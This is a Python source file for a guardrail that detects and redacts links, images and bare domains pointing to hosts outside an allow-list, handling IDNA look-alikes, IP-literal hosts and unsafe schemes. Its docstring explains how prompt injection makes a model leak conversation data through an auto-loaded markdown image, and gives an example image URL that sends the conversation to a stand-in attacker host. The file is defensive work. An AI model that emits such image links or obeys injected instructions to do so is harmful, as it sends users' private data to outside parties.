"""Links and images to hosts outside an allow-list.

A model's answer is rendered: a markdown or HTML image there is fetched by the reader's
browser at once, with no click, so an image URL that carries data in its path or query
(``![](https://evil.example/log?q=<the conversation>)``) leaks it to whoever runs that host.
Prompt injection uses exactly this to exfiltrate. Links need a click but send readers to
hosts the deployer never vetted.

The guard finds markdown images and links (inline and by reference), autolinks, HTML
elements that load or link a URL (``<img src>``, ``srcset``, ``<a href>``, CSS ``url()``),
bare URLs and, optionally, bare domains (``evil.example/x``), and flags each whose host is not
in ``allow_domains``. Hosts are compared as a browser would resolve them: entities and
percent-escapes decoded, backslashes read as slashes, userinfo and port dropped, IDNA
applied (so full-width or look-alike letters and invisible characters cannot fake a match),
a trailing dot ignored. An entry allows the domain and its subdomains on label boundaries:
``example.com`` allows ``docs.example.com`` but not ``notexample.com``. IP-literal hosts
(``http://10.0.0.1``, ``http://2130706433``, ``[::1]``) are never allowed. ``javascript:``,
``vbscript:``, ``file:`` and non-image ``data:`` URLs are always flagged.
"""

from __future__ import annotations

import functools
import html
import ipaddress
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Literal
from urllib.parse import unquote

from pydantic import Field, field_validator

from tether.registry import register

from ._base import GuardContext, GuardParams, Span, Verdict, tighten

__all__ = ["Link", "LinksGuard", "LinksParams", "find_links", "normalize_host"]

LinkKind = Literal["image", "link", "domain"]

LINK_REMOVED = "[LINK REMOVED]"
IMAGE_REMOVED = "[IMAGE REMOVED]"

# Dots that IDNA (UTS #46) reads as a label separator.
_DOTS = str.maketrans({"\u3002": ".", "\uff0e": ".", "\uff61": "."})
_UNSAFE_SCHEMES = ("javascript", "vbscript", "file", "data")
_SPECIAL_SCHEMES = ("http", "https", "ftp", "ws", "wss")
_SAFE_DATA_RE = re.compile(r"data:image/(?:png|gif|jpe?g|webp|bmp|avif);", re.IGNORECASE)
_SCHEME_RE = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
# Characters that end a URL in running text.
_URL_STOP = r"\s<>\"'`"
_URL_RE = re.compile(rf"(?i)(?<![\w.+-])(?:https?|ftp|wss?)://[^{_URL_STOP}]+")
_WWW_RE = re.compile(rf"(?i)(?<![\w.@/-])www\.[^{_URL_STOP}]+")
# label(.label)+ with letters of any script; the last label is checked against known TLDs.
_DOMAIN_RE = re.compile(
    r"(?<![\w@./:-])((?:[^\W_](?:[\w-]{0,61}[^\W_])?\.)+([^\W\d_]{2,24}))"
    r"(?![\w-]|\.[^\W_])(:\d{1,5})?(/[^\s<>\"'`]*)?"
)
_LINK_TARGET = r"<([^<>\n]{0,2048})>|((?:[^\s()]|\([^\s()]{0,2048}\)){1,2048})"
_TITLE = r"""(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?"""
_MD_INLINE_RE = re.compile(
    rf"(!?)\[((?:[^\[\]\n]|\[[^\[\]\n]*\]){{0,1000}})\]\(\s*(?:{_LINK_TARGET}){_TITLE}\s*\)"
)
_MD_REF_USE_RE = re.compile(r"(!?)\[((?:[^\[\]\n]|\[[^\[\]\n]*\])*)\](?:\[([^\[\]\n]*)\])?")
_MD_REF_DEF_RE = re.compile(
    r"(?m)^[ \t]{0,3}\[([^\[\]\n]+)\]:[ \t]*(?:<([^<>\n]*)>|(\S+))(?:[ \t]+.*)?$"
)
_AUTOLINK_RE = re.compile(r"<([a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^<>\s]*)>")
# Possessive and bounded, so that a text full of unclosed tags or quotes stays fast.
_TAG_RE = re.compile(
    r"<([a-zA-Z][a-zA-Z0-9:-]*)\b((?:[^<>\"']+|\"[^\"]{0,4000}\"|'[^']{0,4000}'){0,400}+)>"
)
_ATTR_RE = re.compile(
    r"""([a-zA-Z_:][-a-zA-Z0-9_:.]*)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+))"""
)
_URL_ATTRS = frozenset(
    {"src", "href", "srcset", "poster", "background", "data", "action", "formaction", "xlink:href",
     "lowsrc", "dynsrc", "cite", "longdesc", "ping", "manifest", "icon", "codebase", "archive"}
)  # fmt: skip
# Elements whose URL a reader follows by clicking; every other URL attribute loads by itself.
_CLICKED = frozenset({"a", "area", "form", "button", "input"})
_CSS_URL_RE = re.compile(r"(?i)url\(\s*(?:\"([^\"]*)\"|'([^']*)'|([^)\s]*))\s*\)")
_A_END_RE = re.compile(r"(?i)</a\s*>")
_ANCHOR_TEXT_LIMIT = 2000
_TAGS_RE = re.compile(r"<[^>]*>")

# Top-level domains a bare word.word may end with to count as a domain (URLs with a scheme
# need no such check): the common generic ones and the country codes. Those that are also
# words, file extensions or attribute names in code ("ended.It", "README.md", "user.id",
# "logger.info") count only with a path or port: "evil.me/x" is a domain, "evil.me" is not;
# so do internationalised ones, and the reserved test domains (RFC 2606: ".env.example" is a
# file, "verify.example/id" a link; the red team plants links on them).
_BARE_TLDS = frozenset(
    """
    com net org edu gov mil int io co ai app dev xyz online site store shop top icu biz tech
    cloud live news blog digital vip win bid money bank finance loans credit
    ac ad ae af ag al ao aq ar aw ax az ba bb bd bf bg bh bi bj bm bn bo br bs bt bw bz ca
    cc cd cf cg ch ci ck cl cm cn cr cu cv cw cx cy cz de dj dk dm dz ec ee eg er es et eu
    fi fj fk fm fo fr ga gd ge gf gg gh gi gl gm gn gp gq gr gs gt gu gw gy hk hm hn hr ht
    hu ie il im iq ir je jm jo jp ke kg kh ki km kn kp kr kw ky kz la lb lc li lk lr ls lt
    lu lv ly ma mc mg mh mk ml mm mn mo mp mq mu mv mw mx mz na nc ne nf ng ni nl np nr nu
    nz om pa pe pf pg ph pk pm pn pr pt pw qa re ro ru rw sa sb sc sd se sg si sk sl sm sn
    sr ss sv sx sy sz tc td tf tg th tj tk tl tm tn tr tt tv tw tz ua ug uk uy uz va vc ve
    vg vi vn vu wf ws ye yt za zm zw
    """.split()
)
_PATH_TLDS = frozenset(
    """
    am as at be by do id in is it me mr ms my no so st to us md py sh pl rs ps cs js ts
    info name email link click help page site one world life
    example test invalid
    """.split()
)
_CODE_RE = re.compile(r"(?s)```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|`[^`\n]+`")
# A dot before a letter: every bare domain has one before its top-level domain.
_DOMAIN_DOT_RE = re.compile(r"\.(?=[^\W\d_])")
_NOT_RUN_RE = re.compile(r"[^\w.-]")


@functools.lru_cache(maxsize=1024)
def normalize_host(host: str) -> str | None:
    """A host as a browser resolves it: lowercase ASCII (IDNA), no trailing dot; None when it
    is no valid host name. Kept for the hosts seen last: the same few come back all the
    time (the deployer's own sites), and IDNA encoding costs microseconds."""
    host = unquote(host).translate(_DOTS).strip().rstrip(".")
    if not host or len(host) > 253:
        return None
    try:
        ascii_host = host.encode("idna").decode("ascii").lower()
    except UnicodeError:
        return None
    if any(not label or len(label) > 63 for label in ascii_host.split(".")):
        return None
    if not re.fullmatch(r"[a-z0-9._-]+|\[[0-9a-f:.]+\]", ascii_host):
        return None
    return ascii_host


@functools.lru_cache(maxsize=1024)  # hosts come back, and a failed ip_address() raises
def _is_ip(host: str) -> bool:
    """IPv6 in brackets, dotted IPv4, and the integer, hex and octal forms browsers accept."""
    if host.startswith("["):
        return True
    parts = host.split(".")
    if parts[-1] == "":
        parts.pop()
    number = re.compile(r"0x[0-9a-f]*|[0-9]+")
    if parts and all(number.fullmatch(p) for p in parts):
        return True
    try:
        ipaddress.ip_address(host)
    except ValueError:
        return False
    return True


@dataclass(frozen=True, slots=True)
class Link:
    """One URL or domain found in a text."""

    kind: LinkKind
    url: str
    host: str | None  # normalized; None when unsafe or unparseable
    start: int  # the span to redact: the whole image, link or element
    end: int
    replacement: str
    unsafe_scheme: str | None = None  # javascript, vbscript, file or data (not an image)

    @property
    def unsafe(self) -> bool:
        return self.unsafe_scheme is not None


def _split_url(url: str) -> tuple[str | None, str | None, bool]:
    """(scheme, raw host, unsafe) of an absolute or protocol-relative URL; a relative URL has
    no host."""
    url = html.unescape(url).strip()
    url = re.sub(r"[\t\n\r\x00-\x1f]", "", url)  # browsers drop these before parsing
    m = _SCHEME_RE.match(url)
    scheme = m.group(1).lower() if m else None
    if scheme in _UNSAFE_SCHEMES:
        return scheme, None, not (scheme == "data" and _SAFE_DATA_RE.match(url))
    rest = url[m.end() :] if m else url
    rest = rest.replace("\\", "/")  # WHATWG: a backslash is a slash in http(s) URLs
    # "https:evil.example" and "https:///evil.example" reach evil.example too.
    if not rest.startswith("//") and scheme not in _SPECIAL_SCHEMES:
        return scheme, None, False
    authority = re.split(r"[/?#]", rest.lstrip("/"), maxsplit=1)[0]
    authority = authority.rpartition("@")[2]  # userinfo
    if authority.startswith("["):
        host = authority.split("]", 1)[0] + "]"
    else:
        host = authority.split(":", 1)[0]
    return scheme, host, False


def _link(
    kind: LinkKind, url: str, start: int, end: int, replacement: str, *, bare: bool = False
) -> Link | None:
    if bare and not _SCHEME_RE.match(url):
        url = "//" + url
    scheme, raw_host, unsafe = _split_url(url)
    if unsafe:
        return Link(kind, url, None, start, end, replacement, unsafe_scheme=scheme)
    if raw_host is None:
        return None  # a relative URL: same host as the page
    return Link(kind, url, normalize_host(raw_host), start, end, replacement)


def _trim(url: str) -> str:
    """Drop trailing punctuation that ends the sentence, not the URL; keep balanced ')'."""
    while url and url[-1] in ".,;:!?'\"*_~]}":
        url = url[:-1]
    while url.endswith(")") and url.count(")") > url.count("("):
        url = url[:-1]
    return url


def _link_text(label: str) -> str:
    """What a removed link leaves: its text, unless empty or itself naming a URL or domain."""
    text = _TAGS_RE.sub("", label).strip()
    if not text or find_links(text):
        return LINK_REMOVED
    return text


def find_links(text: str, *, bare_domains: bool = True) -> list[Link]:
    """Every image, link, URL and (optionally) bare domain in ``text``, in order."""
    found: list[Link] = []
    covered = bytearray(len(text))

    def cover(a: int, b: int) -> None:
        covered[a:b] = b"\x01" * (b - a)

    def free(a: int, b: int) -> bool:
        return covered.find(1, a, b) == -1

    def add(link: Link | None) -> None:
        if link is not None:
            found.append(link)

    # Each pattern scan costs tens of microseconds per kilobyte even when it finds nothing, so
    # the literal text every match of a pattern holds is looked for first ("](", "]:", "://").
    definitions: dict[str, tuple[str, int, int]] = {}
    if "]:" in text:
        for m in _MD_REF_DEF_RE.finditer(text):
            key = m.group(1).strip().casefold()
            definitions.setdefault(key, (m.group(2) or m.group(3), *m.span()))
    images_by_ref = (
        {
            (m.group(3) or m.group(2)).strip().casefold()
            for m in _MD_REF_USE_RE.finditer(text)
            if m.group(1)
        }
        if definitions
        else set()
    )
    for label, (url, a, b) in definitions.items():
        kind: LinkKind = "image" if label in images_by_ref else "link"
        add(_link(kind, url, a, b, ""))
        cover(a, b)

    for m in _MD_INLINE_RE.finditer(text) if "](" in text else ():
        is_image, label = m.group(1) == "!", m.group(2)
        url = m.group(3) if m.group(3) is not None else m.group(4)
        a, b = m.span()
        if is_image:
            add(_link("image", url, a, b, IMAGE_REMOVED))
        else:
            add(_link("link", url, a, b, _link_text(label)))
        # The destination is done; the label still reads as text (it may name a domain).
        cover(m.start(3) if m.group(3) is not None else m.start(4), b)
        if is_image:
            cover(a, b)

    for m in _AUTOLINK_RE.finditer(text):
        if free(*m.span()):
            add(_link("link", m.group(1), *m.span(), LINK_REMOVED))
            cover(*m.span())

    for m in _TAG_RE.finditer(text):
        if not free(*m.span()):
            continue
        element = m.group(1).lower()
        clicked = element in _CLICKED
        a, b = m.span()
        replacement = IMAGE_REMOVED
        end = _A_END_RE.search(text, b, b + _ANCHOR_TEXT_LIMIT) if element == "a" else None
        if end is not None:
            replacement = _link_text(text[b : end.start()])
            b = end.end()
        elif clicked:
            replacement = LINK_REMOVED
        for attr in _ATTR_RE.finditer(m.group(2)):
            name = attr.group(1).lower()
            value = next(v for v in attr.groups()[1:] if v is not None)
            if name in _URL_ATTRS:
                kind = "link" if clicked and name != "src" else "image"
                urls = [u.split()[0] for u in value.split(",") if u.split()]
                for url in urls if name == "srcset" else [value]:
                    add(_link(kind, url, a, b, replacement))
            elif name == "style":
                for css in _CSS_URL_RE.finditer(html.unescape(value)):
                    url = next((g for g in css.groups() if g is not None), "")
                    add(_link("image", url, a, b, replacement))
        cover(m.start(), m.end())

    lowered = text.lower()  # for the case-insensitive patterns' literal parts
    for m in _CSS_URL_RE.finditer(text) if "url(" in lowered else ():
        if free(*m.span()):
            url = next((g for g in m.groups() if g is not None), "")
            add(_link("image", url, *m.span(), IMAGE_REMOVED))
            cover(*m.span())

    www_urls = _WWW_RE.finditer(text) if "www." in lowered else iter(())
    for bare, found_urls in ((False, _url_matches(text)), (True, www_urls)):
        for m in found_urls:
            url = _trim(m.group())
            a, b = m.start(), m.start() + len(url)
            if url and free(a, b):
                add(_link("link", url, a, b, LINK_REMOVED, bare=bare))
                cover(a, b)

    if bare_domains:
        for m in _CODE_RE.finditer(text) if "`" in text or "~~~" in text else ():
            cover(*m.span())  # code is not rendered as links
        for m in _domain_matches(text):
            a = m.start()
            url = _trim(m.group())
            tld = m.group(2).casefold()
            has_path = m.group(3) is not None or m.group(4) is not None
            if text.startswith("(", m.end()) or not free(a, a + len(url)):
                continue  # a call in code: logger.info(...)
            if not (tld in _BARE_TLDS or (has_path and (tld in _PATH_TLDS or not tld.isascii()))):
                continue
            add(_link("domain", url, a, a + len(url), LINK_REMOVED, bare=True))
            cover(a, a + len(url))
    return sorted(found, key=lambda link: (link.start, link.end))


def _url_matches(text: str) -> Iterator[re.Match[str]]:
    """``_URL_RE.finditer(text)``, tried only where a scheme (2 to 5 letters) can end right
    before a "://"."""
    starts: set[int] = set()
    at = text.find("://")
    while at != -1:
        starts.update(range(max(at - 5, 0), max(at - 1, 0)))
        at = text.find("://", at + 3)
    end = 0
    for start in sorted(starts):
        if start >= end and (m := _URL_RE.match(text, start)) is not None:
            yield m
            end = m.end()


def _domain_matches(text: str) -> Iterator[re.Match[str]]:
    """``_DOMAIN_RE.finditer(text)``, tried only where a match can begin. A domain is a run
    of word characters, dots and hyphens with none of them before it, and it holds a dot
    before a letter (before its top-level domain): it starts where the run around such a
    dot starts."""
    end = 0
    last_dot = -1
    n = len(text)
    backwards = ""  # the text reversed: how far a run reaches back is a match there, in C
    for dot in _DOMAIN_DOT_RE.finditer(text):
        at = dot.start()
        # The run's start, looking back at most to the previous dot, whose run start is
        # known: every character is looked at once.
        backwards = backwards or text[::-1]
        stop = _NOT_RUN_RE.search(backwards, n - at, n - last_dot - 1)
        start = n - stop.start() if stop else last_dot + 1
        if last_dot >= 0 and start == last_dot + 1:
            last_dot = at
            continue  # the same run as the previous dot's, whose start was tried already
        last_dot = at
        if start >= end and (m := _DOMAIN_RE.match(text, start)) is not None:
            yield m
            end = m.end()


def _allowed(host: str | None, domains: tuple[str, ...]) -> bool:
    if host is None or _is_ip(host):
        return False
    return any(host == d or host.endswith("." + d) for d in domains)


class LinksParams(GuardParams):
    allow_domains: tuple[str, ...] = Field(
        (),
        description="Hosts links and images may point to; each allows its subdomains too.",
        json_schema_extra=tighten("subset"),
    )
    block_links: bool = Field(
        True,
        description="Flag links, URLs and bare domains to other hosts.",
        json_schema_extra=tighten("higher"),
    )
    block_images: bool = Field(
        True,
        description="Flag images and other auto-loaded URLs to other hosts, even when "
        "block_links is off: they leak data without a click.",
        json_schema_extra=tighten("higher"),
    )
    bare_domains: bool = Field(
        True,
        description="Also treat bare domains (example.com/path) as links.",
        json_schema_extra=tighten("higher"),
    )

    @field_validator("allow_domains")
    @classmethod
    def _domains(cls, value: tuple[str, ...]) -> tuple[str, ...]:
        out = []
        for entry in value:
            raw = entry.strip().removeprefix("*.").removeprefix(".")
            if "/" in raw or ":" in raw or "@" in raw:
                raise ValueError(
                    f"allow_domains entry {entry!r} must be a bare domain like example.com, "
                    "without scheme, path, port or user"
                )
            host = normalize_host(raw)
            if host is None or "." not in host.strip("."):
                raise ValueError(f"allow_domains entry {entry!r} is not a domain name")
            if _is_ip(host):
                raise ValueError(
                    f"allow_domains entry {entry!r} is an IP address; IP hosts are never allowed"
                )
            out.append(host)
        return tuple(dict.fromkeys(out))


@register("guard", "links", params=LinksParams, stages=("input", "output"), redacts=True)
class LinksGuard:
    """Flags links, URLs and images to hosts outside an allow-list; markdown and HTML images
    are the way injected instructions exfiltrate data, so they are flagged on their own."""

    name = "links"

    def __init__(self, params: LinksParams) -> None:
        self.params = params

    async def check(self, text: str, ctx: GuardContext) -> Verdict:
        p = self.params
        bad = [
            link
            for link in find_links(text, bare_domains=p.bare_domains)
            if link.unsafe
            or (
                (p.block_images if link.kind == "image" else p.block_links)
                and not _allowed(link.host, p.allow_domains)
            )
        ]
        if not bad:
            return Verdict(flagged=False, category="links")
        return Verdict(
            flagged=True,
            score=1.0,
            category="links",
            spans=tuple(_spans(bad)),
            reason=_reason(bad),
        )


def _spans(links: list[Link]) -> Iterator[Span]:
    seen: set[tuple[int, int]] = set()
    for link in links:
        if (link.start, link.end) in seen:
            continue
        seen.add((link.start, link.end))
        label = "IMAGE" if link.kind == "image" else "LINK"
        yield Span(start=link.start, end=link.end, label=label, replacement=link.replacement)


def _reason(links: list[Link]) -> str:
    parts: dict[str, None] = {}
    for link in links:
        if link.unsafe:
            what = f"{link.kind} with a {link.unsafe_scheme}: URL"
        elif link.host is None:
            what = f"{link.kind} with an unreadable host ({link.url[:40]!r})"
        else:
            where = f"IP address {link.host}" if _is_ip(link.host) else link.host
            what = {"image": "image from ", "link": "link to ", "domain": "domain "}[
                link.kind
            ] + where
        parts[what] = None
    shown = list(parts)
    more = f" and {len(shown) - 5} more" if len(shown) > 5 else ""
    return "outside the allow-list: " + ", ".join(shown[:5]) + more
